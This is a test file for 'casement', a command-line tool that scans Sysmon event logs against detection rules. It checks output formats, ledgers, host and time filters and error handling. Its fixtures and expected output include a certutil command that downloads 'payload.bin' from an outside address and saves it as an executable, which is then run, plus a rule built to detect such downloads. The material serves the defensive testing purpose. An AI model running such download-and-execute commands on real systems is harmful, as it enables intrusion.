import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { isBackendEvent } from '@casement/schema';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXIT } from '../exit-code.js';
import { BIN, casement, useBuiltCommand, useFolder } from '../testing/built-command.js';
import { ATTACK, sysmonLog } from '../testing/sysmon-log.js';

useBuiltCommand();
const at = useFolder();

const POLICY = `version: 1.0.0
rules:
  - id: certutil_download
    version: 2.0.0
    description: certutil fetched a file
    expression: exec.file.name == "certutil.exe" && exec.cmdline =~ "*http*"
    tags: { technique: T1105-ingress-tool-transfer, severity: high }
  - id: from_cmd
    description: cmd started something
    expression: process.parent.file.name == "cmd.exe" && exec.file.name != ""
`;

beforeAll(() => {
  mkdirSync(at('logs'));
  writeFileSync(at('logs', 'Sysmon.evtx'), sysmonLog(ATTACK));
  writeFileSync(
    at('logs', 'other-host.evtx'),
    sysmonLog(ATTACK.map((start) => ({ ...start, host: 'WS02', at: start.at + 5 }))),
  );
  writeFileSync(at('my.policy'), POLICY);
  writeFileSync(at('half.policy'), `${POLICY}  - id: broken\n    expression: exec.nope == 1\n`);
  writeFileSync(
    at('linux.policy'),
    `version: 1.0.0\nrules:\n  - id: x\n    expression: exec.file.name == "a"\n    filters: ['os == "linux"']\n`,
  );
  writeFileSync(at('yaml.policy'), 'rules: [');
});

const scan = (...args: string[]): ReturnType<typeof casement> =>
  casement(['scan', at('logs'), '--policy', at('my.policy'), ...args]);
const events = (out: string): { agent: { rule_id: string }; date: string }[] =>
  out
    .trimEnd()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

describe('scan', () => {
  it('never writes over a policy of the run', () => {
    for (const flag of ['-o', '--ledger']) {
      const { status, out, err } = scan(flag, at('my.policy'));
      expect({ status, out }).toEqual({ status: EXIT.usage, out: '' });
      expect(err).toContain('CLI6033');
    }
    expect(readFileSync(at('my.policy'), 'utf8')).toBe(POLICY);
  });

  it('says what could not be read even when it is to be quiet', () => {
    writeFileSync(at('text.evtx'), 'no log');
    const { status, err } = casement(['scan', at('text.evtx'), '-p', at('my.policy'), '-q']);
    expect(status).toBe(EXIT.unread);
    expect(err).toMatch(/^not read: .*text\.evtx/);
  });

  it('counts what silent rules match and what a filter hides in the ledger', () => {
    writeFileSync(
      at('silent.policy'),
      POLICY.replace('description: cmd', 'silent: true\n    description: cmd'),
    );
    const path = at('counted.json');
    casement(['scan', at('logs'), '-p', at('silent.policy'), '--ledger', path, '--host', 'ws02', '-q']);
    const { totals, rules } = JSON.parse(readFileSync(path, 'utf8'));
    expect(totals).toMatchObject({ findings: 1, hidden: 1 });
    expect(rules.map((rule: { silenced?: number }) => rule.silenced)).toEqual([undefined, 4]);
  });

  it('refuses one file for the findings and the ledger before it reads anything', () => {
    const { status, out, err } = scan('-o', at('both.json'), '--ledger', at('logs', '..', 'both.json'));
    expect({ status, out }).toEqual({ status: EXIT.usage, out: '' });
    expect(err).toContain('CLI6003');
    expect(err).not.toContain('read:');
    expect(existsSync(at('both.json'))).toBe(false);
  });

  it('prints a table by rule, with the line of ancestors, and says at its end what was read', () => {
    const { status, out, err } = casement(['scan', at('logs', 'Sysmon.evtx'), '-p', at('my.policy')], {
      env: { COLUMNS: '90' },
    });
    expect(status).toBe(EXIT.done);
    expect(out.split('\n')).toEqual([
      '3 findings of 2 rules  1 high',
      '',
      'certutil_download  high  T1105  1 finding  2024-06-25 09:11:30.000',
      '  certutil fetched a file',
      '',
      '  2024-06-25 09:11:30.000  WS01.corp.example  CORP\\bob  certutil.exe (4312)',
      '    explorer.exe (700) › cmd.exe (900)',
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\bob\\x.exe',
      '',
      'from_cmd  2 findings  2024-06-25 09:11:30.000 → 09:11:40.000',
      '  cmd started something',
      '',
      '  2024-06-25 09:11:30.000  WS01.corp.example  CORP\\bob  certutil.exe (4312)',
      '    explorer.exe (700) › cmd.exe (900)',
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\bob\\x.exe',
      '',
      '  2024-06-25 09:11:40.000  WS01.corp.example  CORP\\bob  x.exe (4400)',
      '    explorer.exe (700) › cmd.exe (900)',
      '    command x.exe --run',
      '',
    ]);
    expect(err).toContain('1 policy, 2 rules: 2 loaded\n');
    expect(err).toMatch(/read: 1 file, .* 3 records\n/);
    expect(err).toContain('found: 3 findings of 2 rules on 1 of 1 host with events\n');
    expect(err).toMatch(/digest: sha256 [0-9a-f]{64}\n/);
  });

  it('prints one valid backend event a line, in a total order', () => {
    const { out } = scan('--format', 'events', '--quiet');
    const found = events(out);
    expect(found.map(({ agent, date }) => `${date} ${agent.rule_id}`)).toEqual([
      '2024-06-25T09:11:30Z certutil_download',
      '2024-06-25T09:11:30Z from_cmd',
      '2024-06-25T09:11:35Z certutil_download',
      '2024-06-25T09:11:35Z from_cmd',
      '2024-06-25T09:11:40Z from_cmd',
      '2024-06-25T09:11:45Z from_cmd',
    ]);
    expect(found.every(isBackendEvent)).toBe(true);
    expect(casement(['validate', '-'], { input: out }).status).toBe(EXIT.done);
  });

  it('gives the same bytes twice, whatever the order of the arguments, and the same digest in every format', () => {
    const first = scan('--format', 'events');
    expect(scan('--format', 'events')).toEqual(first);
    const files = readdirSync(at('logs')).map((name) => at('logs', name));
    for (const order of [files, [...files].reverse()]) {
      expect(casement(['scan', ...order, '-p', at('my.policy'), '-f', 'events']).out).toBe(first.out);
    }
    const digest = (err: string): string | undefined => /sha256 ([0-9a-f]{64})/.exec(err)?.[1];
    expect(digest(first.err)).toBeDefined();
    expect(digest(scan().err)).toBe(digest(first.err));
  });

  it('is quiet when asked, and JSON all through when asked', () => {
    expect(scan('--quiet').err).toBe('');
    const { out, err } = scan('--json');
    expect(events(out)).toHaveLength(6);
    const [ledger] = err
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(ledger).toMatchObject({ ledger: { version: 1, totals: { files: 2, findings: 6 } } });
  });

  it('exits with 1 on a match only when asked to', () => {
    expect(scan('--fail-on-match').status).toBe(EXIT.found);
    expect(scan('--fail-on-match', '--to', '2024-01-01').status).toBe(EXIT.done);
    expect(scan().status).toBe(EXIT.done);
  });

  it('shows one time window and some hosts, counts what it leaves out, and keeps the context of what it shows', () => {
    const { out, err } = scan(
      '-f',
      'events',
      '--from',
      '2024-06-25T09:11:35Z',
      '--to',
      '2024-06-25T11:11:40+02:00',
    );
    expect(events(out).map(({ date }) => date)).toEqual(['2024-06-25T09:11:35Z', '2024-06-25T09:11:35Z']);
    expect(err).toContain('; 4 more at other times or on other hosts\n');
    expect(events(scan('-f', 'events', '--host', 'ws01').out)).toHaveLength(3);
    expect(events(scan('-f', 'events', '--host', 'ws02', '--host', 'WS01.corp.example').out)).toHaveLength(6);
    expect(scan('--host', 'ws03').out).toBe('No rule matched.\n');
  });

  it.each([
    [['--from', 'noon'], "--from: 'noon' is not a time"],
    [['--from', '2024-06-26', '--to', '2024-06-25'], "--to: '2024-06-25' is not later than --from"],
    [['--from', '2024-06-26', '--to', '2024-06-26'], "--to: '2024-06-26' is not later than --from"],
    [['--host', 'ws01', '--host', ''], "--host: '' is not the name of a host"],
    [['--format', 'xml'], "--format: 'xml' is not one of "],
  ])('refuses %j', (args, message) => {
    const { status, err } = scan(...args);
    expect(status).toBe(EXIT.usage);
    expect(err).toMatch(/^error: .*\[CLI6002\]\n/);
    expect(err).toContain(message);
  });

  it('does not say that no rule matched where nothing was read', () => {
    const { status, out } = casement(['scan', at('nothing.evtx'), '--policy', at('my.policy')]);
    expect([status, out]).toEqual([EXIT.unread, 'No record was read.\n']);
  });

  it('writes findings and ledger to files, whole or not at all', () => {
    const { status, out } = scan('-f', 'events', '-o', at('out.jsonl'), '--ledger', at('ledger.json'));
    expect([status, out]).toEqual([EXIT.done, '']);
    expect(readFileSync(at('out.jsonl'), 'utf8')).toBe(scan('-f', 'events').out);
    const ledger = JSON.parse(readFileSync(at('ledger.json'), 'utf8'));
    expect(ledger.files).toMatchObject([
      {
        path: at('logs', 'Sysmon.evtx'),
        format: 'evtx',
        records: 3,
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
      { path: at('logs', 'other-host.evtx'), records: 3 },
    ]);
    expect(ledger.rules).toMatchObject([
      { id: 'certutil_download', findings: 2 },
      { id: 'from_cmd', findings: 4 },
    ]);
    expect(readdirSync(at('.')).filter((name) => name.endsWith('.part'))).toEqual([]);
    expect(scan('-o', at('no', 'such', 'folder'))).toMatchObject({
      status: EXIT.usage,
      err: expect.stringContaining('CLI6030'),
    });
    expect(existsSync(at('no'))).toBe(false);
  });

  it('reads a log from standard input', () => {
    const input = readFileSync(at('logs', 'Sysmon.evtx'));
    const { out, err } = casement(['scan', '-', '-p', at('my.policy'), '-f', 'events'], { input });
    expect(events(out)).toHaveLength(3);
    expect(err).toContain('read: 1 file');
  });

  it('uses the bundled rules when no policy is named, and says so', () => {
    const { out, err } = casement(['scan', at('logs')]);
    expect(err).toMatch(/^the bundled rules \(no --policy given\), \d+ rules: \d+ loaded/);
    expect(out).toContain('certutil_download');
  });

  it('tells a rule that failed and runs the others; ends when a policy is unusable, missing or has nothing to run', () => {
    const half = casement(['scan', at('logs'), '-p', at('half.policy'), '-f', 'events']);
    expect(half.status).toBe(EXIT.done);
    expect(events(half.out)).toHaveLength(6);
    expect(half.err).toMatch(/half\.policy:\d+:17 error SECL\d{4} \(rule broken\)/);
    for (const [name, code] of [
      ['gone.policy', 'CLI6020'],
      ['yaml.policy', 'CLI6023'],
      ['linux.policy', 'CLI6024'],
    ] as const) {
      const { status, out, err } = casement(['scan', at('logs'), '-p', at(name)]);
      expect([status, out]).toEqual([EXIT.usage, '']);
      expect(err).toContain(code);
    }
  });

  it('ends quietly when the reader of a pipe goes away', async () => {
    writeFileSync(
      at('many.evtx'),
      sysmonLog(Array.from({ length: 3000 }, (_, i) => ({ ...ATTACK[1]!, at: i, recordId: i }))),
    );
    const child = spawn(process.execPath, [
      BIN,
      'scan',
      at('many.evtx'),
      '-p',
      at('my.policy'),
      '-f',
      'events',
      '-q',
    ]);
    let err = '';
    child.stderr.on('data', (data) => {
      err += data;
    });
    child.stdout.once('data', () => child.stdout.destroy());
    const status = await new Promise((resolve) => child.on('close', resolve));
    expect([status, err]).toEqual([EXIT.done, '']);
  });

  it.skipIf(process.platform === 'win32')(
    'stops at Ctrl-C with what it has, and says that it was cut short',
    async () => {
      writeFileSync(at('huge.evtx'), sysmonLog(ATTACK));
      truncateSync(at('huge.evtx'), 16 * 2 ** 30);
      const args = [
        'scan',
        at('logs'),
        at('huge.evtx'),
        '-p',
        at('my.policy'),
        '-f',
        'events',
        '--ledger',
        at('cut.json'),
      ];
      const child = spawn(process.execPath, [BIN, ...args]);
      let [out, err] = ['', ''];
      child.stdout.on('data', (data) => {
        out += data;
      });
      child.stderr.on('data', (data) => {
        // Said when the rules are loaded and reading begins.
        if (err === '') child.kill('SIGINT');
        err += data;
      });
      const status = await new Promise((resolve) => child.on('close', resolve));
      expect(status).toBe(EXIT.interrupted);
      expect(err).toMatch(/error: cut short by Ctrl-C: .*\[CLI6090\]/);
      expect(events(out).every(isBackendEvent)).toBe(true);
      const ledger = JSON.parse(readFileSync(at('cut.json'), 'utf8'));
      expect(ledger.files).toHaveLength(3);
      expect(JSON.stringify(ledger.files)).toContain('CLI6090');
    },
  );
});
